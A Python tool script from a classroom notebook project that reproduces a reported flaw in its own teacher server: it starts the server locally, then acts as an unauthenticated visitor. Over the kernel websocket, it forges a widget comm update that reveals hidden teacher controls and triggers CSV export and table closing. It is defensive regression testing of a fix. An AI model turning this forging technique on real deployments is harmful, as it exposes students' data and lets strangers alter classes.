"""Measure issue 39's first attack: a visitor of the teacher's port forges one widget update.

    python tools/forge_teacher.py                      # this checkout's teacher server
    python tools/forge_teacher.py --server-repo OLD    # another checkout's (e.g. before the fix)

Makes a table store with one running table (SQLite, in a temporary folder), starts that
checkout's teacher server on 127.0.0.1 (``python -m ttr_nb.teacher_server`` where it exists,
else the old ``voila notebooks/teacher.ipynb`` with a key the visitor does not know), and
plays a stranger who knows neither the key nor the token:

1. asks for the page, as a browser does (no token);
2. if the page comes (HTTP 200), opens its kernel's websocket, reads every widget, and sends
   ONE forged comm update: the layout that hides the teacher's controls gets
   ``display: ""``; then one tick of the page's own refresh timer, as the page sends;
3. clicks *Export the results (CSV)* and *Close this table* by comm messages.

It prints what the stranger got: the page's status, whether the table list reached them,
whether the export link holds the class's CSV, and the table's status in the store after.
"""

from __future__ import annotations

import argparse
import asyncio
import html
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import uuid
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "tools"))

from bench_load_ws import (  # noqa: E402 - a tool beside this one
    CONFIG_DATA,
    CONTROL_TARGET,
    CONTROL_VERSION,
    WS_PROTOCOL,
    KernelSocket,
    click,
)


def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def start_server(repo: Path, port: int, env: dict[str, str], log: Path) -> subprocess.Popen:
    python = repo / ".venv" / "bin" / "python"
    python = python if python.exists() else Path(sys.executable)
    if (repo / "ttr_nb" / "teacher_server.py").exists():
        cmd = [str(python), "-m", "ttr_nb.teacher_server", "--port", str(port)]
        cmd += ["--", "--ClassroomKernelManager.warm_kernels=1"]
    else:
        cmd = [str(python), "-m", "voila", "notebooks/teacher.ipynb", "--no-browser"]
        cmd += [f"--port={port}", "--ClassroomKernelManager.warm_kernels=1"]
    out = log.open("w")
    env = dict(env, PYTHONPATH=str(repo))  # its kernels import that checkout's ttr_nb too
    return subprocess.Popen(
        cmd, cwd=repo, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True
    )


def wait_up(url: str, proc: subprocess.Popen) -> None:
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError("the server exited")
        try:
            urllib.request.urlopen(url + "voila/static/voila.js", timeout=5).close()
            return
        except (urllib.error.URLError, OSError):
            time.sleep(0.5)
    raise RuntimeError("the server did not start")


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: object, **kwargs: object) -> None:
        return None


def get_page(url: str) -> tuple[int, str]:
    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(url, timeout=60) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers.get("Location", "")


async def forge(base: str, page: str) -> dict[str, object]:
    from jupyter_client.session import Session
    from tornado.websocket import websocket_connect

    kernel = json.loads(CONFIG_DATA.search(page).group(1))["kernelId"]
    session = Session(key=b"", username="stranger")
    ws = await websocket_connect(
        f"ws{base[4:]}api/kernels/{kernel}/channels?session_id={session.session}",
        subprotocols=[WS_PROTOCOL],
        max_message_size=256 * 2**20,
    )
    socket = KernelSocket(ws, session)
    await socket.request("kernel_info_request", {}, wait="reply")
    control = str(uuid.uuid4())
    socket.send(
        "comm_open",
        {"comm_id": control, "target_name": CONTROL_TARGET, "data": {}},
        metadata={"version": CONTROL_VERSION},
    )
    await socket.request("comm_msg", socket.comm_msg(control, {"method": "request_states"}))
    found: dict[str, object] = {"widgets": len(socket.models)}
    inside = socket.find("ttr-teacher-inside")
    if inside is not None:
        layout = socket.models[inside]["layout"].removeprefix("IPY_MODEL_")
        update = {"method": "update", "state": {"display": ""}, "buffer_paths": []}
        await socket.request("comm_msg", socket.comm_msg(layout, update))
        found["forged updates sent"] = 1
        timer = socket.find("ttr-teacher-timer")  # the page's own timer ticks: a refresh
        if timer is not None:
            tick = {"method": "update", "state": {"value": 1}, "buffer_paths": []}
            await socket.request("comm_msg", socket.comm_msg(timer, tick))
    for name in ("ttr-teacher-export", "ttr-teacher-close"):
        message = click(socket, name)
        if message is not None:
            await socket.request("comm_msg", message)
    await asyncio.sleep(2)
    tables = socket.find("ttr-teacher-tables")
    listing = html.unescape(socket.models.get(tables, {}).get("value", "")) if tables else ""
    link = socket.find("ttr-teacher-export-link")
    exported = socket.models.get(link, {}).get("value", "") if link else ""
    found["table list shown"] = "Ann" in listing
    found["CSV offered"] = "data:text/csv" in exported
    await socket.close()
    return found


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--server-repo", type=Path, default=REPO)
    args = parser.parse_args(argv)
    repo = args.server_repo.resolve()
    folder = Path(tempfile.mkdtemp(prefix="ttr-forge-"))
    url = f"sqlite:///{folder / 'tables.sqlite'}"
    sys.path.insert(0, str(repo))
    from ttr_nb.tables import TableStore

    store = TableStore(url)
    made = store.create_table("usa", ["human", "greedy"], "Ann", session="ann", seed=3)
    env = dict(os.environ, TTR_TABLES_URL=url, TTR_TEACHER_KEY="the teacher's own phrase")
    env["TTR_TEACHER_TOKEN"] = "t" * 48
    port = free_port()
    base = f"http://127.0.0.1:{port}/"
    proc = start_server(repo, port, env, folder / "server.log")
    try:
        wait_up(base, proc)
        started = time.monotonic()
        status, page = get_page(base)
        for _ in range(20):  # "busy, retrying" while the server's kernels start
            if status != 503:
                break
            time.sleep(3)
            status, page = get_page(base)
        report: dict[str, object] = {"page status": status}
        if status == 200:
            report.update(asyncio.run(forge(base, page)))
        else:
            report["redirected to"] = page
        report["table status after"] = store.table_by_id(made.table_id).status
        report["seconds"] = round(time.monotonic() - started, 1)
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
    for key, value in report.items():
        print(f"{key}: {value}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
